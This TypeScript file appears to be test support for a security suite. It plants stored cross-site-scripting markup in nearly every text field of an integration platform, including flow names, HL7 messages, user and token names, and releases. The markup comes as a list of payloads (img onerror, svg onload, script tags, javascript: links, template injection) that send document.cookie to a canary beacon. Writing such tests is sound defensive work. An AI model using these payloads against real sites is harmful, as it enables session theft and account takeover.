import { randomUUID } from 'node:crypto';
import { listRuns, noDoorSettings } from '@throughline/store';
import { sendMllp } from '../support/hospital.ts';
import { flowOf, node } from '../support/stage.ts';
import type { Arena } from './arena.ts';
import type { Person, Told } from './people.ts';

/** Text that would carry the reader's cookie to the canary, were it anything but text; each fits into a name. */
export function markups(beacon: string): string[] {
  return [
    `<img src=x onerror="fetch('${beacon}/a?'+document.cookie)">`,
    `<svg onload="fetch('${beacon}/b?'+document.cookie)"></svg>`,
    `<script>new Image().src='${beacon}/c?'+document.cookie</script>`,
    `![x](${beacon}/d.png) [x](javascript:fetch('${beacon}/d'))`,
    `<style>@import '${beacon}/e';*{background:url(${beacon}/e)}</style>`,
    `</style></script><link rel=stylesheet href="${beacon}/f">`,
    `<iframe srcdoc="<script>top.location='${beacon}/g'</script>">`,
    `javascript:fetch('${beacon}/h?'+document.cookie)//`,
    `<meta http-equiv=refresh content="0;url=${beacon}/i">`,
    `<base href="${beacon}/j/">`,
    `{{constructor.constructor("fetch('${beacon}/k')")()}}`,
    `'"><a href="${beacon}/l" autofocus onfocus=fetch('${beacon}/l')>`,
  ];
}

/** One that fits into a title. */
export const brief = (beacon: string) => `<img src="${beacon}/t">`;

/** What bears the markup, by id. */
export interface Planted {
  /** A flow whose name, notes and steps say it; its newest run stopped. */
  flow: string;
  runs: { json: string; hl7: string; text: string };
  quarantined: string;
  replay: string;
  release: number;
  client: string;
}

/** What plants, and the markup as it comes next, all of it, and in one that fits a title. */
interface Hand {
  arena: Arena;
  admin: Person;
  operator: Person;
  next(): string;
  whole: string;
  title: string;
}

const DEV = { environment: 'dev' };
const keys = {
  ...{ idempotency: [], order: null, correlation: 'id' },
  business: [{ name: 'usage', path: 'id', class: 'open' }],
};
const plain = { ...keys, business: [], correlation: null };

/** Writes the markup wherever a text can be written: by people, by messages, by partners. */
export async function plantMarkup(arena: Arena, admin: Person, operator: Person): Promise<Planted> {
  const all = markups(arena.canaries.url);
  let turn = 0;
  const next = () => all[turn++ % all.length]!;
  const hand = { arena, admin, operator, next, whole: all.join('\n'), title: brief(arena.canaries.url) };
  await drawFlows(hand);
  await answerPages(hand);
  const stopped = await sendMessages(hand);
  await namePeople(hand);
  const client = await describeDoors(hand);
  const release = await settleEnvironment(hand);
  const again = await operate(hand, stopped);
  const runOf = async (flow: string) => {
    await arena.last(flow);
    return (await listRuns(arena.stage.store, { ...DEV, flow, limit: 1 }))[0]!.id;
  };
  return {
    ...{ flow: 'odd', client, release, ...again },
    runs: { json: again.run, hl7: await runOf('segments'), text: await runOf('letters') },
  };
}

async function drawFlows({ arena, admin, next, whole }: Hand): Promise<void> {
  const stops = 'console.log(message.id); throw new Error(message.id);';
  const nodes = [
    { ...node('in', 'trigger.http', { path: 'odd', keys }), name: next(), note: whole },
    { ...node('code', 'transform.code', { source: stops }), name: next() },
    node('send', 'connector.http', { connection: 'partner', url: '/odd' }),
  ];
  const odd = flowOf('odd', nodes, ['in>code', 'code>send']);
  const box = { x: 0, y: 300, width: 300, height: 200 };
  const sample = { kind: 'message' as const, node: 'in', contentType: 'application/json' };
  await arena.live({
    ...{ ...odd, name: next(), description: whole },
    fixtures: [{ ...sample, name: next(), body: JSON.stringify({ id: whole }) }],
    layout: {
      ...odd.layout,
      frames: [{ id: 'frame', title: next(), ...box }],
      notes: [{ id: 'note', text: whole, ...box }],
    },
  });
  await told(admin, 'post', '/flows/odd/versions', { document: { ...odd, name: next() }, note: next() });
  const write = (folder: string, more = {}) => node('drop', 'connector.file', { folder, ...more });
  const named = { name: { template: '{{ name }}.json' }, badName: 'clean' };
  for (const [flow, trigger, drop] of [
    ['segments', node('in', 'trigger.mllp', { types: [] }), write('hl7')],
    ['letters', node('in', 'trigger.http', { path: 'letters', format: 'text', keys: plain }), write('letters')],
    ['named', node('in', 'trigger.http', { path: 'named', keys }), write('odd', named)],
  ] as const) {
    await arena.live(flowOf(flow, [trigger, drop], ['in>drop']));
  }
}

/** Flows that answer with a page (`mirror`: what it was sent) and with a picture (`drawn`). */
async function answerPages({ arena }: Hand): Promise<void> {
  const waits = { format: 'text', keys: plain, answer: { mode: 'reply', timeoutS: 10 } };
  const picture = `<svg xmlns="http://www.w3.org/2000/svg"><script>fetch('${arena.canaries.url}/svg?'+document.cookie)</script></svg>`;
  for (const [path, method, type, expr] of [
    ['mirror', 'POST', 'text/html; charset=utf-8', '"<title>mirror</title>" & $'],
    ['drawn', 'GET', 'image/svg+xml', JSON.stringify(picture)],
  ] as const) {
    const back = node('back', 'connector.respond', { headers: { 'Content-Type': type }, body: { expr } });
    await arena.live(flowOf(path, [node('in', 'trigger.http', { ...waits, path, method }), back], ['in>back']));
  }
}

/** Answers what stopped. */
async function sendMessages({ arena, next, whole }: Hand): Promise<string> {
  const header = { 'x-correlation-id': next(), 'user-agent': next(), referer: next() };
  await arena.post('odd', { id: next(), [next()]: whole, own: { $masked: 1, shape: next() } }, header);
  const { stop } = await arena.last('odd');
  await arena.post('named', { id: 'file', name: next() });
  const [sender, family, given] = [next(), next(), next()];
  const segments = [
    `MSH|^~\\&|${sender}|B|C|D|20261118||ADT^A01|M1|P|2.5.1`,
    `PID|1||7||${family}^${given}`,
    `NTE|1||${whole.replaceAll('\n', '\\.br\\')}`,
  ];
  await sendMllp(arena.mllpPort, Buffer.from(`${segments.join('\r')}\r`));
  await arena.post('letters', `<?xml version="1.0"?><x>${whole}</x>`, { 'content-type': 'text/html' });
  return stop!.id;
}

async function namePeople({ admin, next, title }: Hand): Promise<void> {
  const tell = (method: string, path: string, json: unknown) => told(admin, method, path, json);
  const person = { name: next(), role: 'viewer', password: 'a password of somebody' };
  await tell('post', '/users', { email: 'odd@hospital.test', ...person });
  await tell('post', '/invitations', { email: 'guest@hospital.test', name: next(), role: 'viewer' });
  await tell('post', '/service-accounts', { name: title, role: 'analyst' });
  await tell('post', '/break-glass-accounts', { name: title });
  await tell('put', '/roles/odd', { title, sentence: next(), permissions: ['flow.see'] });
  await tell('post', '/tokens', { name: next(), permissions: ['flow.see'] });
  await tell('put', '/views', { screen: 'runs', name: title, query: { q: next() } });
}

/** Answers a client. */
async function describeDoors({ admin, next, whole, title }: Hand): Promise<string> {
  const client = await told(admin, 'post', '/clients', {
    ...{ ...DEV, name: next(), contact: next(), note: whole.slice(0, 500) },
    doors: [{ flow: 'odd', node: 'in', rate: null, quota: null }],
  });
  const described = { owner: next(), domain: title, summary: whole.slice(0, 300) };
  await told(admin, 'put', '/doors/odd/in', { ...DEV, settings: { ...noDoorSettings, ...described } });
  return String(client.body['id']);
}

/** Answers a release. */
async function settleEnvironment({ admin, next, whole, title }: Hand): Promise<number> {
  const tell = (method: string, path: string, json: unknown) => told(admin, method, path, json);
  const { settings } = (await tell('get', '/environments/dev', undefined)).body as { settings: object };
  await tell('put', '/environments/dev', {
    ...{ title, colour: 'teal', protected: false },
    settings: { ...settings, variables: { SITE: next() } },
  });
  const column = { name: 'code', title: next(), type: 'text', required: true };
  const table = { name: 'odd', title: next(), description: whole.slice(0, 500), key: ['code'], effective: false };
  await tell('post', '/tables', {
    ...{ ...DEV, definition: { ...table, columns: [column] }, note: next() },
    rows: [{ line: 1, values: { code: next() } }],
  });
  const exception = { flow: 'odd', node: 'in', rule: 'bound', reason: next(), days: 3 };
  await tell('post', '/policies/exceptions', { ...DEV, ...exception });
  const release = await tell('post', '/releases', { ...DEV, flows: ['odd', 'named'], title: next() });
  const number = Number(release.body['number']);
  await admin.ask('post', `/releases/${number}/promotions`, { environment: 'prod', reason: next() });
  return number;
}

/** Answers what was replayed and stopped again. */
async function operate(
  { arena, operator, next }: Hand,
  stopped: string,
): Promise<Pick<Planted, 'quarantined' | 'replay'> & { run: string }> {
  const quarantine = { ids: [stopped] };
  await told(operator, 'put', '/quarantine/care', { ...DEV, quarantine, owner: next(), note: next() });
  const replay = randomUUID();
  await told(operator, 'post', '/replays', { ...DEV, quarantine, id: replay, reason: next(), from: 'received' });
  const { stop } = await arena.last('odd');
  return { replay, quarantined: stop!.id, run: stop!.run };
}

async function told(who: Person, method: string, path: string, json: unknown): Promise<Told> {
  const answer = await who.ask(method, path, json);
  if (answer.status >= 300) throw new Error(`${method} ${path}: ${answer.status} ${answer.text}`);
  return answer;
}
